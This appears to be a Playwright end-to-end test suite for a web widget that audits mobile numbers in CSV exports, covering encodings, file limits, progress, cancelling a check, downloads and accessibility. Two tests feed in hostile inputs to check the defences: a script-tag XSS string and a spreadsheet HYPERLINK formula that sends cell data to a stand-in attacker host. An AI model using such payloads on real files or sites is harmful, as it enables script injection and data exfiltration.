"""The number audit widget (Tools page) end to end: the built site in headless Chromium,
real Pyodide. Expected values come from `checkers` itself.

Needs Chromium at /usr/bin/chromium; the tests fail (not skip) without it.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from checkers import (
    MAX_CSV_BYTES,
    MAX_SHOWN_ROWS,
    PROBLEM_KINDS,
    BinaryFileError,
    audit_csv,
    decode_csv_bytes,
)
from checkers import audit_file as checkers_audit
from checkers.api import handle
from tests.browser import BOOT_MS, axe_violations, widget_on

pytestmark = [pytest.mark.browser, pytest.mark.slow]

WIDGET = '[data-widget="number-audit"]'
PAGE = "/tools/"
FILE_LABEL = "CSV file exported from the CRM"
COLUMN_LABEL = "Column with the mobile numbers"

CONTACTS = (
    b"Id,Name,Mobile,Home phone\r\n"
    b"1,Jane Smith,07400 123456,0121 234 5678\r\n"
    b"2,Joe Bloggs,+44 121 234 5678,\r\n"
    b"3,Ann Lee,+447400123456,07400 654321\r\n"
    b'4,"Bo, Jr",12345,\r\n'
    b"5,Cy Young,,\r\n"
    b"6,Di Page,O7400 123456,+44 7400 111222\r\n"
)


def widget(page: Page) -> Locator:
    """The page's first number audit."""
    return widget_on(page, "number-audit")


def expected_audit(data: bytes, column: str, region: str = "GB") -> dict[str, Any]:
    """What checkers says about the file: summary, every problem row and the fixed CSV."""
    result = checkers_audit(data, column, region)
    every = list(audit_csv(decode_csv_bytes(data).splitlines(True), column, region).rows())
    return {
        "summary": result.summary,
        "rows": [row for row in every if not row.check.ok],
        "fixed": result.fixed_csv.decode("utf-8-sig"),
        "result": result,
    }


def table_rows(page: Page, caption: str) -> Locator:
    return widget(page).locator(f'.sms-widget__table[aria-label="{caption}"] tbody tr')


def choose_file(page: Page, name: str, data: bytes, mime: str = "text/csv") -> None:
    widget(page).get_by_label(FILE_LABEL).set_input_files(
        files=[{"name": name, "mimeType": mime, "buffer": data}]
    )


def wait_for_columns(page: Page) -> Locator:
    select = widget(page).get_by_label(COLUMN_LABEL)
    expect(select).to_be_enabled(timeout=BOOT_MS)
    return select


def run(page: Page) -> None:
    widget(page).get_by_role("button", name="Check the numbers").click()
    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)


def counts(page: Page) -> dict[str, int]:
    items = widget(page).locator(".number-audit__summary li")
    out = {}
    for index in range(items.count()):
        item = items.nth(index)
        key = item.get_attribute("data-count")
        assert key
        out[key] = int(item.locator("strong").inner_text().replace(",", ""))
    return out


def assert_shows(page: Page, expected: dict[str, Any]) -> None:
    summary = expected["summary"]
    assert counts(page) == {
        "rows": summary.rows,
        "sendable": summary.sendable,
        "ok": summary.ok,
        "fixable": summary.sendable - summary.ok,
        "not_sendable": summary.not_sendable,
    }
    problem_table = table_rows(page, "Rows with each problem")
    expect(problem_table).to_have_count(len(summary.by_problem))
    for index, (code, rows) in enumerate(summary.by_problem.items()):
        cells = problem_table.nth(index).locator("td")
        expect(cells.nth(0)).to_have_text(PROBLEM_KINDS[code].label)
        expect(cells.nth(2)).to_have_text(code)
        expect(cells.nth(3)).to_have_text(f"{rows:,}")
    shown = expected["rows"][:MAX_SHOWN_ROWS]
    row_table = table_rows(page, "Rows with a problem")
    expect(row_table).to_have_count(len(shown))
    # One round trip for the whole table (it can hold hundreds of rows).
    cells = row_table.evaluate_all(
        "rows => rows.map(row => [...row.cells].map(cell => cell.textContent))"
    )
    for row, (line, value, verdict, problems) in zip(shown, cells, strict=True):
        assert line == f"{row.line:,}"
        assert value == (row.value or "(empty)")
        assert verdict == row.check.verdict
        for problem in row.check.problems:
            label = "Error: " if problem.severity == "error" else "Warning: "
            assert f"{label}{problem.message}" in problems, (row.line, problems)


def audit_file(page: Page, name: str, data: bytes, column: str | None = None) -> None:
    choose_file(page, name, data)
    select = wait_for_columns(page)
    if column is not None:
        select.select_option(column)
    run(page)


def test_small_csv_gives_checkers_summary_and_problem_rows(page: Page) -> None:
    page.goto(PAGE)
    choose_file(page, "contacts.csv", CONTACTS)
    select = wait_for_columns(page)
    expect(select).to_have_value("Mobile")  # the likely column is preselected
    expect(widget(page).get_by_label("Country for numbers without a country code")).to_have_value(
        "GB"
    )
    run(page)
    expected = expected_audit(CONTACTS, "Mobile")
    assert expected["summary"].not_sendable > 0
    assert expected["summary"].ok > 0
    assert_shows(page, expected)
    outcome = widget(page).locator('[data-part="outcome"]')
    expect(outcome).to_have_text(expected["summary"].outcome)
    expect(widget(page).locator('[data-part="verdict"]')).to_have_text(expected["summary"].headline)
    expect(outcome).to_have_attribute("role", "status")


def test_another_column_and_region(page: Page) -> None:
    page.goto(PAGE)
    choose_file(page, "contacts.csv", CONTACTS)
    wait_for_columns(page).select_option("Home phone")
    widget(page).get_by_label("Country for numbers without a country code").select_option("IE")
    run(page)
    expected = expected_audit(CONTACTS, "Home phone", "IE")
    assert expected["summary"].by_problem != expected_audit(CONTACTS, "Mobile")["summary"]
    assert_shows(page, expected)
    expect(
        widget(page).locator('.sms-widget__table[aria-label="Rows with a problem"] th').nth(1)
    ).to_have_text("Home phone as stored")


def test_semicolon_separated_cp1252_file(page: Page) -> None:
    data = (
        "Nom;Prénom;Téléphone portable\r\n"
        "Dupré;Zoë;07400 123456\r\n"
        "Müller;René;0121 234 5678\r\n"
        "Åström;Åsa;+44 7400 123456\r\n"
    ).encode("cp1252")
    page.goto(PAGE)
    choose_file(page, "export.csv", data)
    expect(wait_for_columns(page)).to_have_value("Téléphone portable")
    expect(widget(page).locator('[data-part="outcome"]')).to_contain_text(
        "semicolon-separated, Windows (cp1252)"
    )
    run(page)
    assert_shows(page, expected_audit(data, "Téléphone portable"))


def test_download_is_checkers_fixed_csv(page: Page, tmp_path: Path) -> None:
    data = ("Id;Name;Mobile\r\n1;Zoë;07400 123456\r\n2;Bob; 0121 234 5678\r\n3;;\r\n").encode(
        "cp1252"
    )
    page.goto(PAGE)
    audit_file(page, "my contacts.csv", data)
    with page.expect_download() as download_info:
        widget(page).get_by_role("button", name="Download corrected CSV").click()
    download = download_info.value
    assert download.suggested_filename == "my contacts-checked.csv"
    target = tmp_path / "fixed.csv"
    download.save_as(target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig") == expected_audit(data, "Mobile")["fixed"]
    assert "Zoë" in raw.decode("utf-8-sig")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("contacts.xlsx", b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)) * 4),
        ("photo.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4),
    ],
)
def test_binary_file_gives_a_plain_message(page: Page, name: str, data: bytes) -> None:
    with pytest.raises(BinaryFileError) as error:
        decode_csv_bytes(data)
    page.goto(PAGE)
    choose_file(page, name, data, mime="application/octet-stream")
    message = widget(page).locator('[data-part="error"]')
    expect(message).to_have_text(f"Error: {error.value}", timeout=BOOT_MS)
    expect(widget(page).get_by_role("button", name="Check the numbers")).to_be_disabled()


def test_an_empty_csv_gives_a_plain_message(page: Page) -> None:
    reply = handle({"op": "csv_columns", "data": b""})
    assert reply["ok"] is False
    page.goto(PAGE)
    choose_file(page, "contacts.csv", b"")
    expect(widget(page).locator('[data-part="error"]')).to_have_text(
        f"Error: {reply['error']}", timeout=BOOT_MS
    )
    expect(widget(page).locator('[data-part="outcome"]')).to_contain_text(reply["error"])


def test_unbalanced_quote_names_the_line(page: Page) -> None:
    data = b'Name,Mobile\r\nJane,07400 123456\r\nJoe,"0121 234 5678\r\nAnn,07400 654321\r\n'
    page.goto(PAGE)
    choose_file(page, "contacts.csv", data)
    wait_for_columns(page)
    widget(page).get_by_role("button", name="Check the numbers").click()
    expect(widget(page).locator('[data-part="error"]')).to_contain_text(
        "Error: Line 3 of the CSV cannot be read", timeout=BOOT_MS
    )
    expect(widget(page).locator('[data-part="download"]')).to_be_hidden()


def test_a_huge_header_gets_a_plain_message_fast_without_freezing_the_page(page: Page) -> None:
    page.goto(PAGE)
    expect(widget(page)).to_have_attribute("data-state", "ready", timeout=BOOT_MS)
    # 9.5 million columns in 19 MB, made in the page first (as a reader's file would be).
    page.evaluate(
        """() => {
            const header = new TextEncoder().encode("a,".repeat(9_500_000) + "\\n");
            window.__wide = new DataTransfer();
            window.__wide.items.add(new File([header], "wide.csv", { type: "text/csv" }));
        }"""
    )
    page.wait_for_timeout(200)
    page.evaluate(
        """() => {
          window.__long = [];
          new PerformanceObserver((list) => {
            for (const entry of list.getEntries()) window.__long.push(entry.duration);
          }).observe({ type: "longtask" });
        }"""
    )
    started = page.evaluate("performance.now()")
    widget(page).get_by_label(FILE_LABEL).evaluate(
        """(input) => {
            input.files = window.__wide.files;
            input.dispatchEvent(new Event("change", { bubbles: true }));
        }"""
    )
    message = widget(page).locator('[data-part="error"]')
    expect(message).to_contain_text(
        "or more columns; a contacts export has far fewer", timeout=10_000
    )
    took = page.evaluate("performance.now()") - started
    assert took < 2_000, took
    assert max(page.evaluate("window.__long"), default=0) < 200
    expect(widget(page).get_by_label(COLUMN_LABEL).locator("option")).to_have_count(1)


def test_a_file_over_the_limit_is_refused_with_the_limit(page: Page) -> None:
    page.goto(PAGE)
    file_input = widget(page).get_by_label(FILE_LABEL)
    expect(file_input).to_be_enabled()
    # Made in the page (sending 20 MB through Playwright is slow); the same change event.
    file_input.evaluate(
        """(input, size) => {
            const transfer = new DataTransfer();
            transfer.items.add(new File([new Uint8Array(size)], "huge.csv", { type: "text/csv" }));
            input.files = transfer.files;
            input.dispatchEvent(new Event("change", { bubbles: true }));
        }""",
        MAX_CSV_BYTES + 1,
    )
    message = widget(page).locator('[data-part="error"]')
    expect(message).to_contain_text(
        "This file is 20.1 MB; the checker takes files up to 20 MB", timeout=BOOT_MS
    )
    expect(message).to_contain_text("Export only the name and mobile columns")


def test_big_file_shows_the_progress_bar_moving(page: Page) -> None:
    rows = 30_000
    lines = ["Id,Name,Mobile\r\n"]
    for index in range(rows):
        number = f"07{400 + index % 600} {index:06d}" if index % 7 else f"0121 {index:07d}"
        lines.append(f"{index},Person {index},{number}\r\n")
    data = "".join(lines).encode()
    page.goto(PAGE)
    choose_file(page, "big.csv", data)
    wait_for_columns(page)
    page.evaluate(
        """selector => {
            const bar = document.querySelector(selector + ' [data-part="bar"]');
            window.__progress = [];
            new MutationObserver(() => window.__progress.push(
                [bar.value, bar.getAttribute("aria-valuetext"), bar.closest("[hidden]") === null]
            )).observe(bar, { attributes: true, attributeFilter: ["aria-valuetext"] });
        }""",
        f"article {WIDGET}",
    )
    widget(page).get_by_role("button", name="Check the numbers").click()
    expect(widget(page).get_by_role("button", name="Cancel")).to_be_visible()
    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)
    seen = page.evaluate("window.__progress")
    between = [entry for entry in seen if 0 < entry[0] < 100]
    assert between, seen
    assert all(visible for _, _, visible in between), seen
    assert any("rows checked" in text and "%" in text for _, text, _ in between), seen
    values = [value for value, _, _ in seen]
    assert values == sorted(values), values
    expect(widget(page).locator(".number-audit__progress")).to_be_hidden()
    expected = expected_audit(data, "Mobile")
    assert counts(page)["rows"] == rows
    assert_shows(page, expected)
    expect(widget(page).locator('[data-part="rows-note"]')).to_have_text(
        f"{expected['result'].rows_note} The corrected CSV lists every row."
    )


def test_cancel_stops_a_long_check(page: Page) -> None:
    lines = ["Mobile\r\n"] + [f"07{400 + i % 600} {i:06d}\r\n" for i in range(150_000)]
    data = "".join(lines).encode()
    page.goto(PAGE)
    choose_file(page, "big.csv", data)
    wait_for_columns(page)
    widget(page).get_by_role("button", name="Check the numbers").click()
    bar = widget(page).locator('[data-part="bar"]')
    expect(bar).not_to_have_attribute("aria-valuetext", "0%, 0 rows checked", timeout=BOOT_MS)
    expect(bar).to_be_visible()
    _assert_no_violation_inside(page)  # the progress bar and Cancel button, while running
    widget(page).get_by_role("button", name="Cancel").click()
    expect(widget(page).locator('[data-part="outcome"]')).to_have_text(
        "Stopped. Nothing was changed."
    )
    expect(widget(page).locator('[data-part="verdict"]')).to_have_count(0)
    # Python restarts; the same file can be checked again afterwards.
    small = CONTACTS
    audit_file(page, "contacts.csv", small)
    assert_shows(page, expected_audit(small, "Mobile"))


def test_check_2_links_here_and_the_widget_works_after_instant_navigation(page: Page) -> None:
    page.goto("/sending-fails/")
    page.evaluate("window.__noReload = true")
    page.locator("article a", has_text="Check a list of numbers").first.click()
    # navigation.tracking may leave the last section's #anchor on the address.
    page.wait_for_url(re.compile(r"/tools/(#.*)?$"))
    expect(page.locator("article h1")).to_contain_text("Check a list of numbers")
    assert page.evaluate("window.__noReload") is True, "the page was reloaded, not swapped"
    audit_file(page, "contacts.csv", CONTACTS)
    assert_shows(page, expected_audit(CONTACTS, "Mobile"))


def test_markup_in_a_cell_is_shown_as_text(page: Page) -> None:
    typed = "<script>alert(1)</script>"
    data = f'Name,Mobile\r\n<b>Jo</b>,"{typed}"\r\n'.encode()
    page.goto(PAGE)
    audit_file(page, "contacts.csv", data)
    cell = table_rows(page, "Rows with a problem").locator("td").nth(1)
    expect(cell).to_have_text(typed)
    assert widget(page).locator("script").count() == 0
    assert widget(page).locator("b").count() == 0
    page.wait_for_timeout(300)  # a dialog, if one fired, is caught by the page fixture


def test_keyboard_only(page: Page, tmp_path: Path) -> None:
    page.goto(PAGE)
    file_input = widget(page).get_by_label(FILE_LABEL)
    expect(file_input).to_be_enabled()

    def tab_to(target: Locator) -> None:
        for _ in range(200):
            page.keyboard.press("Tab")
            if target.evaluate("node => node === document.activeElement"):
                return
        pytest.fail(f"Tab never reached {target}")

    tab_to(file_input)
    # Space opens the file chooser. Headless Chromium now and then drops the first press
    # (the page is still busy starting Python), so press again, still from the keyboard.
    for key in ("Space", "Space", "Enter"):
        assert file_input.evaluate("node => node === document.activeElement")
        try:
            with page.expect_file_chooser(timeout=5_000) as chooser:
                page.keyboard.press(key)
            break
        except PlaywrightTimeoutError:
            continue
    else:
        pytest.fail("the keyboard never opened the file chooser")
    chooser.value.set_files(files=[{"name": "c.csv", "mimeType": "text/csv", "buffer": CONTACTS}])
    column = wait_for_columns(page)
    tab_to(column)
    tab_to(widget(page).get_by_role("button", name="Check the numbers"))
    page.keyboard.press("Enter")
    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)
    assert_shows(page, expected_audit(CONTACTS, "Mobile"))
    save = widget(page).get_by_role("button", name="Download corrected CSV")
    tab_to(save)
    with page.expect_download() as download_info:
        page.keyboard.press("Enter")
    target = tmp_path / "fixed.csv"
    download_info.value.save_as(target)
    assert target.read_bytes().decode("utf-8-sig") == expected_audit(CONTACTS, "Mobile")["fixed"]


def _assert_no_violation_inside(page: Page) -> None:
    violations = axe_violations(page, context=f"article {WIDGET}")
    assert violations == [], [(v["id"], [n["html"] for n in v["nodes"]]) for v in violations]


def test_axe_finds_no_violation_with_results_shown(page: Page) -> None:
    page.goto(PAGE)
    audit_file(page, "contacts.csv", CONTACTS)
    _assert_no_violation_inside(page)
    choose_file(page, "bad.xlsx", b"PK\x03\x04" + bytes(200))
    expect(widget(page).locator('[data-part="error"]')).to_be_visible(timeout=BOOT_MS)
    _assert_no_violation_inside(page)


def test_axe_finds_no_violation_in_dark_mode(page: Page) -> None:
    page.emulate_media(color_scheme="dark")
    page.goto(PAGE)
    audit_file(page, "contacts.csv", CONTACTS)
    assert page.evaluate("document.body.dataset.mdColorScheme") == "slate"
    _assert_no_violation_inside(page)


def test_progress_bar_has_a_name_while_running(page: Page) -> None:
    page.goto(PAGE)
    bar = widget(page).locator("progress")
    expect(bar).to_have_attribute("max", "100")
    # Labelled for assistive technology (axe checks the rest while results are shown).
    expect(widget(page).get_by_label("Checking the numbers")).to_have_count(1)


def test_cells_that_look_like_formulas_are_made_text_and_the_page_says_so(
    page: Page, tmp_path: Path
) -> None:
    data = b'Name,Mobile\r\n"=HYPERLINK(""http://evil.example/?""&A2,""x"")",07400 123456\r\n'
    page.goto(PAGE)
    audit_file(page, "contacts.csv", data)
    expected = expected_audit(data, "Mobile")
    note = widget(page).locator('[data-part="formulas"]')
    expect(note).to_have_text(str(expected["result"].formulas_note))
    expect(note).to_contain_text("1 cell that looked like a formula was made plain text")
    with page.expect_download() as info:
        widget(page).get_by_role("button", name="Download corrected CSV").click()
    target = tmp_path / "fixed.csv"
    info.value.save_as(target)
    text = target.read_bytes().decode("utf-8-sig")
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert text == expected["fixed"]
